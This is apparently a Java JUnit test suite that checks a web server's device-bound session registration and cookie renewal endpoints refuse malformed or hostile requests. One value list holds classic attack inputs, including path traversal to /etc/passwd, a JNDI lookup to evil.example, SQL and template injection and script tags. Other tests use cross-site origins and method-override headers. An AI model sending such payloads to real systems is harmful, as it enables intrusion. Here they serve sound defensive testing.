package dev.carafe.attack;

import static dev.carafe.attack.BoundVisitor.ID;
import static dev.carafe.attack.BoundVisitor.REFRESH;
import static dev.carafe.attack.BoundVisitor.REGISTER;
import static dev.carafe.attack.BoundVisitor.RESPONSE;
import static org.assertj.core.api.Assertions.assertThat;

import dev.carafe.testing.Logs;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.logging.Level;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The worst that can be sent where browsers register their keys and renew their cookies. */
class DeviceBindingAttackTest {
  @RegisterExtension static final Logs LOGS = Logs.ofCarafe();

  private final BoundProgram program = new BoundProgram();

  /** One who has logged in and not registered yet, and one who has. */
  private final BoundVisitor pending;

  private final BoundVisitor bound;
  private final int written;

  DeviceBindingAttackTest() throws IOException {
    pending = new BoundVisitor(program.port());
    bound = new BoundVisitor(program.port()).registered();
    written = program.written.get();
  }

  @AfterEach
  void nothingHasChanged() throws IOException {
    try (program) {
      assertThat(program.written).hasValue(written);
      assertThat(pending.whoami()).isEqualTo("ann");
      assertThat(bound.whoami()).isEqualTo("ann");
      String log = LOGS.written().toString();
      assertThat(log).doesNotContain(pending.secrets()).doesNotContain(bound.secrets());
      assertThat(LOGS.writtenAbove(Level.WARNING)).isEmpty();
      assertThat(bound.renew()).isEqualTo(200);
      assertThat(pending.registered().whoami()).isEqualTo("ann");
    }
  }

  /** Looks at an answer that is to do nothing. */
  private static void isRefused(String answer, String what, Integer... statuses) {
    assertThat(RawSocket.status(answer)).as(what).isIn((Object[]) statuses);
    assertThat(answer).as(what).doesNotContain("Set-Cookie").doesNotContain("registration");
  }

  private void register(String what, String... fields) throws IOException {
    isRefused(pending.send("POST " + REGISTER, fields), what, 400, 403, 431);
  }

  private void renew(String what, String... fields) throws IOException {
    isRefused(bound.send("POST " + REFRESH, fields), what, 400, 403, 431);
  }

  private void renewOfThis(String response) throws IOException {
    renew(response, ID + bound.id, RESPONSE + response);
  }

  /** A proof that is good, with one octet more at its beginning, within, or at its end. */
  @Test
  void noOctetMakesAnotherProofOfAGoodOne() throws IOException {
    String registration = pending.registration();
    String proof = bound.proof();
    for (int octet = 0; octet < 256; octet++) {
      String one = String.valueOf((char) octet);
      boolean space = octet == ' ' || octet == '\t' || octet == '\r' || octet == '\n';
      // White space around a value is none of it (RFC 9110 section 5.5).
      for (int at : space ? List.of(10) : List.of(0, 10, -1)) {
        register("octet " + octet, RESPONSE + with(registration, at, one));
        renew("octet " + octet, ID + bound.id, RESPONSE + with(proof, at, one));
      }
    }
  }

  private static String with(String text, int at, String more) {
    int index = at < 0 ? text.length() : at;
    return text.substring(0, index) + more + text.substring(index);
  }

  @Test
  void noOctetMakesAnIdOfAnother() throws IOException {
    String proof = bound.proof();
    for (int octet = 0; octet < 256; octet++) {
      String one = String.valueOf((char) octet);
      if (octet != ' ' && octet != '\t' && octet != '\r' && octet != '\n') {
        String answer = bound.send("POST " + REFRESH, ID + bound.id + one, RESPONSE + proof);
        isRefused(answer, "octet " + octet, 200, 400);
        assertThat(answer).as("octet " + octet).doesNotContain("Secure-Session-Challenge");
      }
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " ",
        "\"",
        "\"\"",
        "\"\"\"",
        "\"a",
        "a\"",
        "\\",
        "\"\\\"",
        "\"a\\",
        ":",
        ":YWJj:",
        ":YWJj",
        "?1",
        "@0",
        "%\"a%\"",
        "()",
        "(",
        "(a b);c=d",
        "a;b=\"",
        "a, b",
        ",",
        ";",
        "=",
        ".",
        "..",
        "...",
        "a.b.c",
        "99999999999999999999",
        "-1",
        "null",
        "{}",
        "[]",
        "../../../etc/passwd",
        "%00",
        "%2e%2e",
        "${jndi:ldap://evil.example}",
        "{{7*7}}",
        "<script>",
        "' or 1=1 --",
        "\u00c3\u00a9",
        "\u00c3(",
        "\u00c0\u00af",
        "\u00ed\u00a0\u0080",
        "\u00f4\u0090\u0080\u0080",
        "\u00ef\u00bb\u00bf",
        "\u00ff\u00fe",
      })
  void whatIsNoValueIsRefused(String value) throws IOException {
    register(value, RESPONSE + value);
    renewOfThis(value);
    isRefused(bound.send("POST " + REFRESH, ID + value), value, 200, 400);
    isRefused(bound.send("POST " + REFRESH, ID + value, RESPONSE + bound.proof()), value, 200, 400);
  }

  @Test
  void fieldsThatAreThereTwiceOrByOtherNamesAreNotRead() throws IOException {
    String good = RESPONSE + bound.proof();
    String id = ID + bound.id;
    renew("proof twice", id, good, good);
    renew("proof and none", id, good, RESPONSE);
    renew("none and proof", id, RESPONSE, good);
    renew("proofs in a list", id, good + ", " + bound.proof());
    renew("id twice", id, id, good);
    renew("id and none", id, ID, good);
    renew("no id", good);
    renew("a parameter", id, good + ";a=b");
    renew("old name", id, "Sec-Session-Response: " + bound.proof());
    renew("old id", "Sec-Session-Id: " + bound.id, good);
    renew("folded", id, RESPONSE + "\r\n " + bound.proof());
    renew("space before the colon", id, good.replace(":", " :"));
    String first = RESPONSE + pending.registration();
    register("registration twice", first, first);
    register("registration and none", first, RESPONSE);
    register("old name", "Sec-Session-Response: " + pending.registration());
    register("authorization", "Authorization: Bearer " + pending.registration());
  }

  @Test
  void hugeFieldsAreRefusedUpToTheLimitOfTheHeadAndOverIt() throws IOException {
    for (int length : List.of(4095, 4096, 4097, 7000, 7900, 8192, 20_000, 200_000)) {
      for (String value : List.of("a", ".", "\"", "\u00ff", "(", "a.")) {
        String huge = value.repeat(length / value.length());
        register(value + length, RESPONSE + huge);
        renewOfThis(huge);
        isRefused(bound.send("POST " + REFRESH, ID + huge), value + length, 200, 400, 431);
      }
    }
    List<String> many = new ArrayList<>();
    for (int i = 0; i < 150; i++) {
      many.add(RESPONSE + "a.b.c");
    }
    register("many", many.toArray(String[]::new));
  }

  /** Its browser has another session too, of a login before, with a cookie of the same name. */
  @Test
  void whoAsksForAnotherSessionLosesNoCookieOfHisOwn() throws IOException {
    for (String id : List.of("x", "a".repeat(43), bound.id.substring(1))) {
      String answer = bound.send("POST " + REFRESH, ID + id, RESPONSE + bound.proof());
      isRefused(answer, "id", 200, 400);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "QUERY", "post", "X"})
  void noOtherMethodRegistersOrRenews(String method) throws IOException {
    for (String override : List.of("X-A: b", "X-HTTP-Method-Override: POST", "X-Method: POST")) {
      String response = RESPONSE + pending.registration();
      isRefused(pending.send(method + " " + REGISTER, response, override), method, 200, 405, 501);
      isRefused(
          bound.send(method + " " + REFRESH, ID + bound.id, RESPONSE + bound.proof(), override),
          method,
          200,
          405,
          501);
    }
  }

  @Test
  void noPageOfAnotherSiteIsAllowedToSendThem() throws IOException {
    for (String path : List.of(REGISTER, REFRESH)) {
      String preflight =
          bound.send(
              "OPTIONS " + path,
              "Origin: https://evil.example",
              "Access-Control-Request-Method: POST",
              "Access-Control-Request-Headers: secure-session-response");
      assertThat(preflight).doesNotContain("Access-Control");
    }
    for (String site : List.of("cross-site", "same-site", "none", "\"", "\u00ff", "")) {
      for (String origin : List.of("https://evil.example", "null", "http://shop.example", "\"")) {
        String[] from = {"Sec-Fetch-Site: " + site, "Origin: " + origin, "Sec-Fetch-Mode: cors"};
        isRefused(pending.send("POST " + REGISTER, from), site, 403);
        String answer = bound.send("POST " + REFRESH, from);
        isRefused(answer, site, 400);
        assertThat(answer).doesNotContain("Access-Control");
      }
    }
  }

  @Test
  void nothingIsRegisteredOrRenewedByHttp() throws IOException {
    String response = RESPONSE + pending.registration();
    String proof = RESPONSE + bound.proof();
    for (String proto : List.of("http", "https, http", "ws", "\"")) {
      String plain = "X-Forwarded-Proto: " + proto;
      register(proto, plain, response);
      renew(proto, plain, ID + bound.id, proof);
    }
  }

  @Test
  void whatBrowsersSayOfFailedRenewalsIsNeverAnError() throws IOException {
    for (int octet = 0; octet < 256; octet++) {
      String skipped = "Secure-Session-Skipped: " + (char) octet;
      String answer = bound.send("GET /", skipped, "Sec-Fetch-Site: " + (char) octet);
      assertThat(RawSocket.status(answer)).isIn(200, 400);
    }
  }
}
